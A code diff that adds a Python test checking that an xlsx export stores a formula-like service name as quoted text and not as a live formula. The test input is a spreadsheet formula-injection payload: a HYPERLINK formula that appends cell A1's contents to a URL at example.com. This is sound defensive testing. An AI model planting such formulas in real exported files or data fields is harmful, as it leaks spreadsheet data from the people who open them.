@@ -138,3 +138,19 @@ def test_a_failed_write_leaves_the_old_file(tmp_path):
         raise RuntimeError("disk full")
     assert path.read_text() == "[]"
     assert list(tmp_path.iterdir()) == [path]
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
+    service = full_service()
+    service.name = '=HYPERLINK("http://example.com/?"&A1;"Hilfe")'
+    service.save()
+    service.phones.create(number="+49 30 1234567")
+
+    workbook = load_workbook(io.BytesIO(export_bytes("xlsx")))
+    values = [cell.value for row in workbook["service"].iter_rows() for cell in row]
+    types = [cell.data_type for row in workbook["service"].iter_rows() for cell in row]
+
+    assert "'" + service.name in values
+    assert "f" not in types
+    phones = [cell.value for row in workbook["phone"].iter_rows() for cell in row]
+    assert "+49 30 1234567" in phones
